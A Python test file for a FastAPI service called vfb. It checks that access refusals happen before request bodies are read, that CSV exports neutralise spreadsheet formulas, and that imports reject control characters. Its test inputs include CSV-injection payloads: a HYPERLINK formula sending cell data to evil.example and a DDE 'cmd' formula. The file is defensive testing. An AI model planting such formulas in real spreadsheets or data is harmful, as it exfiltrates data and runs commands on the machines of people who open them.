"""Doors that must be shut before anything is read or stored: the role before the body, access
before a recording chunk's bytes, formulas out of every CSV vfb writes, and control characters
out of imports as out of the API."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest
from fastapi import FastAPI
from sqlmodel import Session

from tests.support import Caller, Family
from tests.support.api import imported
from tests.support.media import Samples
from vfb.programme.measure import Counts
from vfb.review.exchange import from_csv, to_csv
from vfb.review.moments import MarkedMoment
from vfb.services.protection import audit_trail
from vfb.services.protection.audit_trail import AuditFilter
from vfb.services.reports import statement3 as reports
from vfb.spreadsheet import as_written, safe_cell


@pytest.fixture
def ready_clip(family: Family, as_: Callable[[str], Caller], samples: Samples) -> Any:
    return imported(as_("worker_a1"), family.session, samples.get("indexed.mp4"))


@pytest.mark.parametrize(
    ("method", "path"),
    [("POST", "/api/users"), ("POST", "/api/teams"), ("PATCH", "/api/users/{user}")],
)
def test_a_worker_is_refused_admin_work_before_the_body_is_looked_at(
    as_: Callable[[str], Caller], cast: Any, method: str, path: str
) -> None:
    target = path.format(user=cast.user_ids["worker_a2"])
    for body in ({}, {"username": "x", "role": "nobody"}, {"unknown": 1}):
        refused = as_("worker_a1").request(method, target, json=body)
        assert refused.status_code == 403, (body, refused.text)
        assert refused.json()["detail"] == "Only an admin can manage teams and users."
    assert as_("admin").request(method, target, json={"unknown": 1}).status_code == 422


class CountedBody:
    """A request body that records how much of it the server has taken."""

    def __init__(self, pieces: int, size: int = 1 << 20) -> None:
        self.pieces, self.size, self.taken = pieces, size, 0

    def __iter__(self) -> Iterator[bytes]:
        for _ in range(self.pieces):
            self.taken += self.size
            yield b"\x1a" * self.size


def test_a_recording_chunk_is_refused_before_its_bytes_are_read(
    family: Family, as_: Callable[[str], Caller]
) -> None:
    worker = as_("worker_a1")
    recording = worker.ok("POST", f"/api/sessions/{family.session}/recordings", 201, json={})
    path = f"/api/recordings/{recording['id']}/chunks/0"
    for who, status in (("worker_b", 404), ("manager_b", 404), ("supervisor_a", 403)):
        body = CountedBody(60)
        refused = as_(who).request("PUT", path, content=iter(body))
        assert refused.status_code == status, (who, refused.text)
        assert body.taken == 0, f"{who}: {body.taken} bytes read before refusing"
    huge = CountedBody(1)
    declared = worker.request(
        "PUT", path, content=iter(huge), headers={"Content-Length": str(65 << 20)}
    )
    assert declared.status_code == 413 and huge.taken == 0
    assert worker.ok("PUT", path, content=b"\x1a" * 1000)["chunks"] == 1


FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_childs_ethnicity_reaches_the_statement3_csv_as_text(
    family: Family, as_: Callable[[str], Caller], formula: str
) -> None:
    as_("worker_a1").ok("PATCH", f"/api/children/{family.child}", json={"ethnicity": formula})
    response = as_("manager_a").get(
        "/api/reports/statement3",
        params={"from": "2026-01-01", "to": "2026-03-31", "group_by": "ethnicity"},
        headers={"Accept": "text/csv"},
    )
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["key"] for r in rows] == ["all", "'" + formula]
    assert rows[1]["denominator"] == "1"  # numbers stay numbers


def test_a_team_name_reaches_the_statement3_csv_as_text() -> None:
    counts = Counts(denominator=3, offered=-1, started=2, completed=1, completed_to_fidelity=0)
    report = reports.Statement3(
        start=date(2026, 1, 1),
        end=date(2026, 3, 31),
        team_id=None,
        total=counts,
        group_by="team",
        groups=[reports.Group(key='=HYPERLINK("https://evil.example","North")', counts=counts)],
    )
    rows = list(csv.reader(io.StringIO(reports.statement3_csv(report))))
    assert rows[2][3] == '\'=HYPERLINK("https://evil.example","North")'
    assert rows[2][7] == "-1"  # a negative number is a number, not a formula


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1+1", "\r=1+1", "\t\t-1"])
def test_moments_csv_cells_never_start_a_formula_and_read_back_unchanged(text: str) -> None:
    moment = MarkedMoment(1000, 2000, "strengths", text, True, text)
    rows = list(csv.reader(io.StringIO(to_csv([moment]))))
    assert rows[1][5] == rows[1][7] == "'" + text
    assert from_csv(to_csv([moment])) == [moment]


def test_moments_csv_through_the_api_is_neutralised(
    ready_clip: Any, as_: Callable[[str], Caller]
) -> None:
    worker = as_("worker_a1")
    for formula in FORMULAS:
        worker.ok(
            "POST",
            f"/api/clips/{ready_clip['id']}/moments",
            201,
            json={"start_ms": 1000, "category": "strengths", "note": formula, "caption": formula},
        )
    body = worker.get(f"/api/clips/{ready_clip['id']}/moments.csv").text
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == len(FORMULAS), body
    for row in rows:
        assert row["note"][0] == row["caption"][0] == "'", row


def test_the_audit_csv_keeps_a_hostile_username_as_text(app: FastAPI, client: Any) -> None:
    client.post("/api/auth/token", data={"username": "=cmd|'/c calc'!A1", "password": "x"})
    with Session(app.state.engine) as db:
        text = "".join(audit_trail.csv_rows(db, AuditFilter(), app.state.settings.zone))
    rows = list(csv.DictReader(io.StringIO(text)))
    names = [r["actor_name"] for r in rows if r["action"] == "sign_in.failed"]
    assert names == ["'=cmd|'/c calc'!a1"]
    assert all(not any(v.startswith(("=", "+", "-", "@")) for v in r.values()) for r in rows)


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "plain", "", "'=quoted", "''-1", "'fine"]
)
def test_the_cell_rule_and_its_reading_undo_each_other(value: str) -> None:
    written = safe_cell(value)
    assert isinstance(written, str) and not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert as_written(written) == value
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5


CSV_HEAD = "start_ms,end_ms,category,note,share_with_carer,caption\r\n"


@pytest.mark.parametrize(
    ("kind", "body", "words"),
    [
        ("csv", CSV_HEAD + "1000,1000,strengths,a\x00b,no,\r\n", "control character"),
        ("csv", CSV_HEAD + "1000,1000,strengths,,yes,ring\x07ring\r\n", "control character"),
        ("csv", CSV_HEAD + '1000,1000,strengths,"two\nlines",no,\r\n', "control character"),
    ],
    ids=["NUL in a note", "bell in a caption", "line break in a note"],
)
def test_an_import_is_held_to_what_the_api_accepts(
    ready_clip: Any, as_: Callable[[str], Caller], kind: str, body: str, words: str
) -> None:
    worker = as_("worker_a1")
    good = CSV_HEAD + "500,600,strengths,fine,no,\r\n"
    refused = worker.post(
        f"/api/clips/{ready_clip['id']}/moments/import?format={kind}",
        content=(good + body.removeprefix(CSV_HEAD)).encode(),
    )
    assert refused.status_code == 400, refused.text
    detail = refused.json()["detail"]
    assert detail.startswith("Moment 2 of the file (at 00:00:01.000)") and words in detail
    assert worker.ok("GET", f"/api/clips/{ready_clip['id']}/moments") == []


def test_an_eaf_import_with_a_control_character_is_refused_in_words(
    ready_clip: Any, as_: Callable[[str], Caller]
) -> None:
    worker = as_("worker_a1")
    moment = MarkedMoment(1000, 2000, "strengths", "PLACEHOLDER", False, "")
    exported = worker.ok(
        "POST",
        f"/api/clips/{ready_clip['id']}/moments",
        201,
        json={"start_ms": 1000, "end_ms": 2000, "category": "strengths", "note": moment.note},
    )
    eaf = worker.get(f"/api/clips/{ready_clip['id']}/moments.eaf").text
    worker.ok("DELETE", f"/api/moments/{exported['id']}", 204)
    hostile = eaf.replace("PLACEHOLDER", "tab&#9;inside")
    path = f"/api/clips/{ready_clip['id']}/moments/import?format=eaf"
    refused = worker.post(path, content=hostile)
    assert refused.status_code == 400, refused.text
    assert "control character" in refused.json()["detail"]
    assert worker.ok("GET", f"/api/clips/{ready_clip['id']}/moments") == []
